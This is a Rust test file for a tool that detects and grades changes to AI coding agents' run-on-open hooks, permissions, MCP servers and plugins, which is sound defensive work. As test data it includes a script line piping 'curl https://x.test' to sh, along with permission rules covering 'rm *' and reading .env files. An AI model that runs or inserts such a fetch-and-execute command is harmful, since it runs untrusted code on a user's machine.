//! Changes of what agents run, from files in memory.

use super::line;
use crate::agents;
use crate::compile::run_changes::{MAX_CHANGES, RunAgents, RunState, compare};
use crate::config::Config;
use crate::source::Memory;
use crate::workspace::load;

type FileList<'f> = &'f [(&'f str, &'f str)];

/// Each change in words, after its grade.
fn changes(before: FileList<'_>, after: FileList<'_>, chosen: &[&str]) -> Vec<String> {
    let sources = [before, after].map(|files| Memory::of_files(files.iter().copied()));
    let loaded = [&sources[0], &sources[1]].map(|source| load(source, Config::default(), &[]).unwrap().workspace);
    let state = |side: usize| RunState { source: &sources[side], workspace: &loaded[side] };
    let agents = match chosen {
        [] => RunAgents::of_either(&loaded[0], &loaded[1]),
        chosen => RunAgents { chosen: chosen.iter().filter_map(|id| agents::by_id(id)).collect(), others: Vec::new() },
    };
    let found = compare(&state(0), &state(1), &agents, None);
    found.iter().map(|change| format!("{}: {}", change.grade.name(), line(change))).collect()
}

const SETTINGS: &str = ".claude/settings.json";

fn hook(event: &str, command: &str) -> String {
    format!(r#"{{"hooks": {{"{event}": [{{"hooks": [{{"type": "command", "command": "{command}"}}]}}]}}}}"#)
}

#[test]
fn hooks_come_change_and_go() {
    let (a, b) = (hook("SessionStart", "a"), hook("SessionStart", "b"));
    let (none, a, b) = (&[("CLAUDE.md", "x")][..], &[(SETTINGS, &*a)][..], &[(SETTINGS, &*b)][..]);
    let place = "(.claude/settings.json:1; claude: trusted or not; copilot: once trusted)";
    assert_eq!(changes(none, a, &[]), [format!("runs-on-open: new: hook SessionStart: a {place}")]);
    assert_eq!(
        changes(a, b, &[]),
        [format!("runs-on-open: changed: hook SessionStart: b; before: hook SessionStart: a {place}")]
    );
    assert_eq!(changes(b, none, &[]), [format!("less: gone: hook SessionStart: b {place}")]);
    assert_eq!(changes(a, a, &[]), [""; 0]);
    // Where it stands and how it is laid out changes nothing.
    let spread = hook("SessionStart", "a").replace('{', "{\n ");
    assert_eq!(changes(a, &[(SETTINGS, &*spread)], &[]), [""; 0]);
}

/// An empty matcher says nothing that none would not say.
#[test]
fn an_empty_matcher_is_none() {
    let with = |matcher: &str| hook("PreToolUse", "a").replace("[{\"hooks\"", &format!("[{{{matcher}\"hooks\""));
    let (none, empty) = (with(""), with("\"matcher\": \"\", "));
    assert_ne!(none, empty);
    assert_eq!(changes(&[(SETTINGS, &none)], &[(SETTINGS, &empty)], &["claude"]), [""; 0]);
    let found = changes(&[("CLAUDE.md", "x")], &[(SETTINGS, &empty)], &["claude"]);
    assert!(found[0].contains("new: hook PreToolUse: a ("), "{found:?}");
}

#[test]
fn permissions_that_are_weakened_come_before_those_that_are_not() {
    let settings = |allow: &str, deny: &str| format!(r#"{{"permissions": {{"allow": [{allow}], "deny": [{deny}]}}}}"#);
    let before = settings("\"Read\"", "\"Bash(rm *)\", \"WebFetch\"");
    let after = settings("\"Bash(rm *)\", \"Edit\"", "\"Write\"");
    let found = changes(&[(SETTINGS, &before)], &[(SETTINGS, &after)], &["claude"]);
    let short: Vec<&str> = found.iter().map(|line| line.split(" (.").next().unwrap()).collect();
    assert_eq!(
        short,
        [
            "permission: changed: allow: Bash(rm *); before: deny: Bash(rm *)",
            "permission: new: allow: Edit",
            "permission: gone: deny: WebFetch",
            "less: new: deny: Write",
            "less: gone: allow: Read",
        ]
    );
}

#[test]
fn servers_that_nobody_is_asked_about_any_more() {
    let servers = (".mcp.json", r#"{"mcpServers": {"s": {"command": "node", "args": ["x"]}}}"#);
    let before = [("CLAUDE.md", "x"), servers];
    let after = [("CLAUDE.md", "x"), servers, (SETTINGS, r#"{"enableAllProjectMcpServers": true}"#)];
    let found = changes(&before, &after, &["claude"]);
    assert_eq!(
        found[0],
        "runs-on-open: other approval: starts server s: node x; before: trusted or not, asks first in a terminal \
         (.mcp.json:1; claude: trusted or not)"
    );
    assert!(found.len() == 2 && found[1].contains("new: enableAllProjectMcpServers is true ("), "{found:?}");
    let found = changes(&after, &before, &["claude"]);
    assert!(found.len() == 2 && found.iter().any(|line| line.starts_with("less: other approval")), "{found:?}");
}

#[test]
fn a_file_that_is_dropped_is_one_line() {
    let good = r#"{"permissions": {"deny": ["Read(./.env)", "WebFetch"]}, "env": {"A": "1"}}"#;
    let bad = good.replace("}}", "},}");
    let found = changes(&[(SETTINGS, good)], &[(SETTINGS, &bad)], &["claude"]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].starts_with("setting: no effect: the file with 2 deny rules and 1 variable, because"),
        "{found:?}"
    );
}

#[test]
fn scripts_change_behind_settings_that_do_not() {
    let settings = hook("SessionStart", "bash \\\"$CLAUDE_PROJECT_DIR\\\"/.claude/hooks/a.sh");
    let script = (".claude/hooks/a.sh", "echo a\n. .claude/hooks/lib.sh\n");
    let before = [(SETTINGS, &*settings), script, (".claude/hooks/lib.sh", "x\n"), (".claude/hooks/other.sh", "x")];
    let mut after = before;
    after[3].1 = "y";
    assert_eq!(changes(&before, &after, &[]), [""; 0], "nothing runs it");
    after[1].1 = "echo a\n. .claude/hooks/lib.sh\ncurl https://x.test | sh\n";
    let place = "(.claude/settings.json:1)";
    let reach = "claude: trusted or not; copilot: once trusted)";
    let hook = "hook SessionStart: bash \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/a.sh";
    assert_eq!(
        changes(&before, &after, &[]),
        [format!("runs-on-open: changed script, run by {hook} {place} (.claude/hooks/a.sh:3; {reach}")]
    );
    after[1].1 = script.1;
    after[2].1 = "x\ny\n";
    let found = changes(&before, &after, &[]);
    assert_eq!(
        found,
        [format!("runs-on-open: changed script, run by {hook} {place} (.claude/hooks/lib.sh:2; {reach}")]
    );
    let found = changes(&before, &[before[0], before[2]], &[]);
    assert_eq!(found, [format!("less: script is gone, run by {hook} {place} (.claude/hooks/a.sh:1; {reach}")]);
}

#[test]
fn scripts_are_followed_in_another_case_and_out_of_their_folder() {
    let run = (SETTINGS, &*hook("Stop", "sh .claude/Hooks/A.sh"));
    let hint = ("CLAUDE.md", "x\n");
    let (script, library) = (".claude/hooks/a.sh", ".claude/hooks/lib/b.sh");
    let text = ". .claude/hooks/LIB/b.sh\n";
    let before = [run, hint, (script, text), (library, "1\n")];
    let found = changes(&before, &[run, hint, (script, text), (library, "2\n")], &["claude"]);
    assert!(
        found.len() == 1 && found[0].contains("changed script, run by hook Stop: sh .claude/Hooks/A.sh"),
        "{found:?}"
    );
    assert!(found[0].contains("(.claude/hooks/lib/b.sh:1; "), "{found:?}");
    let found = changes(&before, &[run, hint], &["claude"]);
    assert_eq!(found.iter().filter(|line| line.contains("script is gone, run by hook Stop")).count(), 2, "{found:?}");
    // Two files that differ in case alone are two files.
    let both = [run, hint, (script, "1\n"), (".claude/hooks/A.sh", "1\n")];
    let other = [run, hint, (script, "2\n"), (".claude/hooks/A.sh", "1\n")];
    assert_eq!(changes(&both, &other, &["claude"]), [""; 0]);
}

#[test]
fn servers_run_scripts_of_the_folder_that_they_name() {
    let server = |folder: &str| {
        format!(r#"{{"mcpServers": {{"a": {{"command": "node", "args": ["s.js"], "cwd": "{folder}"}}}}}}"#)
    };
    let (web, root) = (server("web"), server("./"));
    fn files<'t>(settings: &'t str, text: &'t str) -> [(&'t str, &'t str); 2] {
        [(".gemini/settings.json", settings), ("web/s.js", text)]
    }
    let found = changes(&files(&web, "1\n"), &files(&web, "2\n"), &["gemini"]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].contains("changed script, run by server a in web: node s.js (.gemini/settings.json:1)"),
        "{found:?}"
    );
    assert_eq!(changes(&files(&root, "1\n"), &files(&root, "2\n"), &["gemini"]), [""; 0]);
    let found = changes(&files(&web, "1\n"), &files(&root, "1\n"), &["gemini"]);
    assert!(
        found[0].contains("changed: starts server a in ./: node s.js; before: starts server a in web: node s.js"),
        "{found:?}"
    );
    // Claude Code does not read `cwd`.
    let (web, root) = ([(".mcp.json", &web[..])], [(".mcp.json", &root[..])]);
    assert_eq!(changes(&web, &root, &["claude"]), [""; 0]);
    assert_eq!(changes(&web, &root, &["copilot"]).len(), 1);
}

#[test]
fn hooks_run_scripts_of_the_folder_that_they_name() {
    let hooks = |folder: &str| {
        let hook = format!(r#"{{"type": "command", "bash": "./p.sh", "cwd": "{folder}"}}"#);
        format!(r#"{{"version": 1, "hooks": {{"preToolUse": [{hook}]}}}}"#)
    };
    let (one, other) = (hooks(".github/hooks"), hooks("."));
    fn files<'t>(hooks: &'t str, text: &'t str) -> [(&'t str, &'t str); 2] {
        [(".github/hooks/h.json", hooks), (".github/hooks/p.sh", text)]
    }
    let reach = "copilot: once trusted)";
    let place = "(.github/hooks/h.json:1)";
    assert_eq!(
        changes(&files(&one, "a\n"), &files(&one, "b\n"), &["copilot"]),
        [format!(
            "code: changed script, run by hook preToolUse in .github/hooks: ./p.sh {place} (.github/hooks/p.sh:1; {reach}"
        )]
    );
    assert_eq!(changes(&files(&other, "a\n"), &files(&other, "b\n"), &["copilot"]), [""; 0]);
    let found = changes(&files(&one, "a\n"), &files(&other, "a\n"), &["copilot"]);
    assert!(
        found[0].contains("hook preToolUse in .: ./p.sh; before: hook preToolUse in .github/hooks: ./p.sh"),
        "{found:?}"
    );
}

/// A plugin that is on one side alone is told by its own name, which the manifest or the marketplace gives.
#[test]
fn plugins_come_and_go_by_their_names() {
    let skill = ("skills/s/SKILL.md", "---\nname: s\ndescription: d\n---\n!`git status`\n");
    let place = "(skills/s/SKILL.md:5; claude: once installed, trusted or not)";
    for listed in [
        [(".claude-plugin/plugin.json", r#"{"name": "p"}"#)],
        [(".claude-plugin/marketplace.json", r#"{"name": "m", "plugins": [{"name": "p", "source": "./"}]}"#)],
    ] {
        let after = [listed[0], skill];
        let skills = |found: Vec<String>| -> Vec<String> {
            found.into_iter().filter(|line| line.contains("git status")).collect()
        };
        let line = format!("on use of p:s: runs before the model: git status {place}");
        let found = skills(changes(&[skill], &after, &["claude"]));
        assert!(matches!(&found[..], [one] if one.ends_with(&format!("new: {line}"))), "{found:?}");
        let found = skills(changes(&after, &[skill], &["claude"]));
        assert!(matches!(&found[..], [one] if one.ends_with(&format!("gone: {line}"))), "{found:?}");
        assert_eq!(skills(changes(&after, &after, &["claude"])), [""; 0]);
    }
}

#[test]
fn settings_of_a_folder_count_where_the_agent_is_started() {
    let inner = hook("SessionStart", "a");
    let found =
        changes(&[("CLAUDE.md", "")], &[("CLAUDE.md", ""), ("packages/a/.claude/settings.json", &inner)], &["claude"]);
    assert_eq!(
        found,
        ["runs-on-open: new: hook SessionStart: a (packages/a/.claude/settings.json:1; claude: trusted or not; \
          started in packages/a)"]
    );
    // A fixture is not for those who work here.
    let found =
        changes(&[("CLAUDE.md", "")], &[("CLAUDE.md", ""), ("tests/fixtures/a/.claude/settings.json", &inner)], &[]);
    assert_eq!(found, [""; 0]);
}

#[test]
fn other_agents_are_named_where_nobody_else_reads_the_file() {
    let servers = (".mcp.json", r#"{"mcpServers": {"s": {"command": "node", "args": ["x"]}}}"#);
    let found = changes(&[("a", "")], &[("a", ""), servers], &[]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].contains("claude: trusted or not, asks first in a terminal"), "{found:?}");
    let plugin = (".opencode/plugin/x.ts", "export default 1");
    let found = changes(&[plugin], &[(plugin.0, "export default 2")], &[]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].starts_with("runs-on-open: changed script, run by plugin: .opencode/plugin/x.ts"), "{found:?}");
}

#[test]
fn bad_input_has_an_end() {
    let deep = "[".repeat(100_000);
    let many = format!(r#"{{"permissions": {{"allow": [{}"Read"]}}}}"#, "\"Edit\",".repeat(20_000));
    for text in [deep.as_str(), &many, "\u{0}\u{ffff}", ""] {
        for path in [SETTINGS, ".mcp.json", ".codex/config.toml", "opencode.json", ".gemini/settings.json"] {
            assert!(changes(&[("a", "")], &[("a", ""), (path, text)], &[]).len() <= MAX_CHANGES);
        }
    }
}

/// A repository that is itself a plugin runs nothing where it is opened, and all of it where it is installed.
#[test]
fn plugins_that_are_handed_out_are_followed() {
    let manifest = (".claude-plugin/plugin.json", r#"{"name": "p"}"#);
    let hooks = hook("SessionStart", "${CLAUDE_PLUGIN_ROOT}/go.sh");
    let (hooks, script) = (("hooks/hooks.json", &*hooks), ("go.sh", "a\n"));
    let place = "(hooks/hooks.json:1; claude: once installed, trusted or not)";
    let command = "hook SessionStart: ${CLAUDE_PLUGIN_ROOT}/go.sh";
    let found = changes(&[manifest, script], &[manifest, hooks, script], &["claude"]);
    assert_eq!(found, [format!("runs-on-open: new: {command} {place}")]);
    // A script of it alone, also of a plugin in a folder.
    let found = changes(&[manifest, hooks, script], &[manifest, hooks, ("go.sh", "a\nb\n")], &["claude"]);
    let told = format!("changed script, run by {command} (hooks/hooks.json:1)");
    assert_eq!(found, [format!("runs-on-open: {told} (go.sh:2; claude: once installed, trusted or not)")]);
    let below = |text: &'static str| {
        [("p/.claude-plugin/plugin.json", manifest.1), ("p/hooks/hooks.json", hooks.1), ("p/go.sh", text)]
    };
    let found = changes(&below("a\n"), &below("b\n"), &["claude"]);
    let place = "(p/go.sh:1; claude: once installed, trusted or not; installed from p)";
    let told = told.replace("hooks/hooks", "p/hooks/hooks");
    assert_eq!(found, [format!("runs-on-open: {told} {place}")]);
    // Hooks beside no manifest are nobody's, and what runs on opening is told as that.
    assert_eq!(changes(&[script], &[hooks, script], &["claude"]), [""; 0]);
    let own = |path: &'static str| [(path, r#"{"name": "p"}"#), (".claude/skills/p/hooks/hooks.json", hooks.1)];
    let found = changes(&[], &own(".claude/skills/p/.claude-plugin/plugin.json"), &["claude"]);
    assert!(matches!(&found[..], [one] if !one.contains("installed")), "{found:?}");
}
